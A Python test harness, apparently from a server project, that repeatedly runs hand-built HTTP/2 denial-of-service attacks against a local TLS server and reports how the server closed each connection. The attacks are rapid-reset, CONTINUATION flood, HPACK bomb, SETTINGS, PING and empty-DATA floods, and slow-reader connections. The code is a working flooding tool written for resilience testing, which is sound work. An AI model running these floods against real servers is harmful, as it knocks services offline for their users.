#!/usr/bin/python3
"""Sustained HTTP/2 abuse for the load-under-attack test: repeats one raw-frame attack over TLS,
connection after connection, until --seconds have passed, so the attack covers a whole
measurement window instead of ending at the first GOAWAY.

  h2_flood.py --port P --sni NAME --case CASE --seconds S [--path-host NAME]

CASE: rapid-reset, continuation, hpack-bomb, settings-flood, ping-flood, empty-data,
slow-reader. Prints one JSON line at the end: connections opened, frames sent, how the server
ended the connections (goaway codes, closes, stalls) and, for hpack-bomb, the :status codes seen.
Frames are built by hand (hyperframe-free) so that they go out exactly as written, and every
socket operation has a timeout, so the whole run ends within --seconds plus a few seconds."""

import argparse
import json
import select
import socket
import ssl
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
OP_TIMEOUT = 3.0


def frame(ftype, flags, sid, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + sid.to_bytes(4, "big") + payload


def connect(port, sni, small_rcvbuf):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if small_rcvbuf:
        # A client that never reads: keep the kernel from absorbing the server's output.
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    raw.settimeout(OP_TIMEOUT)
    raw.connect(("127.0.0.1", port))
    s = ctx.wrap_socket(raw, server_hostname=sni)
    if s.selected_alpn_protocol() != "h2":
        raise SystemExit("ALPN did not select h2: %r" % s.selected_alpn_protocol())
    # Our SETTINGS (empty) and the ACK of the server's.
    s.sendall(PREFACE + frame(4, 0, 0) + frame(4, 1, 0))
    return s


class Reader:
    """Non-blocking frame reader: records GOAWAY codes, RST_STREAMs, response :status codes."""

    def __init__(self, sock, res):
        self.sock = sock
        self.res = res
        self.buf = b""
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 65536

    def poll(self, wait=0.0):
        """Reads what is there (waiting up to WAIT seconds); False once the server closed."""
        end = time.monotonic() + wait
        while True:
            pending = self.sock.pending() if hasattr(self.sock, "pending") else 0
            if not pending:
                r, _, _ = select.select([self.sock], [], [], max(0.0, end - time.monotonic()))
                if not r:
                    return True
            try:
                d = self.sock.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except (OSError, socket.timeout):
                return False
            if not d:
                return False
            self.buf += d
            self.parse()
            if time.monotonic() >= end and not self.sock.pending():
                return True

    def parse(self):
        while len(self.buf) >= 9:
            ln = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + ln:
                return
            t, flags = self.buf[3], self.buf[4]
            p = self.buf[9:9 + ln]
            self.buf = self.buf[9 + ln:]
            if t == 7:
                code = str(int.from_bytes(p[4:8], "big"))
                self.res["goaway"][code] = self.res["goaway"].get(code, 0) + 1
            elif t == 3:
                self.res["rst"] += 1
            elif t == 1:
                if flags & 0x8:  # PADDED
                    p = p[1:len(p) - p[0]]
                if flags & 0x20:  # PRIORITY
                    p = p[5:]
                try:
                    for k, v in self.dec.decode(p):
                        if k in (":status", b":status"):
                            st = v.decode() if isinstance(v, bytes) else v
                            self.res["status"][st] = self.res["status"].get(st, 0) + 1
                except Exception:  # noqa: BLE001 - a CONTINUATION split is not expected here
                    self.res["status"]["undecodable"] = self.res["status"].get("undecodable", 0) + 1


def req_block(sni, path):
    """GET header block that leaves the server's dynamic table alone: static-table :method and
    :scheme, then :authority and :path as literals without indexing (plain, no Huffman)."""
    out = b"\x82\x87"
    for idx, v in ((1, sni.encode()), (4, path.encode())):
        out += bytes([idx]) + str_len(len(v)) + v
    return out


def bomb_block(sni, path):
    """A small header block that decodes to far more than 64 KiB: one 3900-byte field added to
    the dynamic table, then referenced by index (one byte each)."""
    name, value = b"x-bomb", b"b" * 3900
    # Literal with incremental indexing, new name (0x40). It is the newest entry afterwards
    # (it evicts the previous request's copy), so dynamic index 62 (0x80 | 62 = 0xbe) names it.
    lit = b"\x40" + str_len(len(name)) + name + str_len(len(value)) + value
    return req_block(sni, path) + lit + b"\xbe" * 3000


def str_len(n):
    """HPACK string length, no Huffman (7-bit prefix)."""
    if n < 127:
        return bytes([n])
    return b"\x7f" + encode_int(n - 127)


def encode_int(n):
    """HPACK integer continuation bytes after a full 7-bit prefix."""
    out = b""
    while n >= 128:
        out += bytes([(n & 0x7f) | 0x80])
        n >>= 7
    return out + bytes([n])


def one_connection(a, res, deadline):
    small = a.case in ("settings-flood", "ping-flood", "slow-reader")
    s = connect(a.port, a.sni, small)
    res["connections"] += 1
    rd = Reader(s, res)
    sid = 1
    alive = True
    try:
        if a.case == "rapid-reset":
            while alive and time.monotonic() < deadline:
                batch = b""
                for _ in range(50):
                    batch += frame(1, 0x4, sid, req_block(a.sni, "/rr")) + frame(3, 0, sid, (8).to_bytes(4, "big"))
                    sid += 2
                s.sendall(batch)
                res["frames"] += 100
                alive = rd.poll()
        elif a.case == "continuation":
            s.sendall(frame(1, 0, 1, req_block(a.sni, "/cont")))
            cont = frame(9, 0, 1, b"\x40\x01a\x01b")
            while alive and time.monotonic() < deadline:
                s.sendall(cont * 20)
                res["frames"] += 20
                alive = rd.poll()
        elif a.case == "hpack-bomb":
            while alive and time.monotonic() < deadline and sid < 2000:
                s.sendall(frame(1, 0x5, sid, bomb_block(a.sni, "/bomb")))
                sid += 2
                res["frames"] += 1
                # One bomb at a time: the answer (431) must come before the next goes out.
                alive = rd.poll(0.02)
        elif a.case == "empty-data":
            s.sendall(frame(1, 0x4, 1, req_block(a.sni, "/empty")))
            while alive and time.monotonic() < deadline:
                s.sendall(frame(0, 0, 1) * 50)
                res["frames"] += 50
                alive = rd.poll()
        elif a.case in ("ping-flood", "settings-flood"):
            f = frame(6, 0, 0, b"12345678") if a.case == "ping-flood" else frame(4, 0, 0)
            while time.monotonic() < deadline:
                s.sendall(f * 200)
                res["frames"] += 200
        elif a.case == "slow-reader":
            # 100 streams asking for 1 MB each, then never a byte read nor a WINDOW_UPDATE.
            batch = b""
            for _ in range(100):
                batch += frame(1, 0x5, sid, req_block(a.sni, "/download?size=1000000"))
                sid += 2
            s.sendall(batch)
            res["frames"] += 100
            while time.monotonic() < deadline:
                time.sleep(0.2)
            res["held"] += 1
        else:
            raise SystemExit("unknown case " + a.case)
    except socket.timeout:
        # The server stopped reading (its output queue is full): a stalled flooder.
        res["stalled"] += 1
        alive = False
    except OSError:
        alive = False
    if not alive:
        res["closed"] += 1
    s.close()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--sni", required=True)
    p.add_argument("--case", required=True)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--parallel", type=int, default=1, help="slow-reader: connections held at once")
    a = p.parse_args()
    res = {"case": a.case, "connections": 0, "frames": 0, "closed": 0, "stalled": 0, "held": 0,
           "rst": 0, "goaway": {}, "status": {}, "errors": 0}
    deadline = time.monotonic() + a.seconds
    if a.case == "slow-reader":
        # Several never-reading connections held side by side for the whole window.
        ths = [threading.Thread(target=guarded, args=(a, res, deadline)) for _ in range(a.parallel)]
        for t in ths:
            t.start()
        for t in ths:
            t.join(a.seconds + 10)
    else:
        while time.monotonic() < deadline and res["connections"] < 10000:
            guarded(a, res, deadline)
    print(json.dumps(res))


def guarded(a, res, deadline):
    try:
        one_connection(a, res, deadline)
    except (OSError, ssl.SSLError, socket.timeout):
        # Refused or reset during the handshake: counted, and the next connection follows.
        res["errors"] += 1
        time.sleep(0.05)


if __name__ == "__main__":
    sys.exit(main())
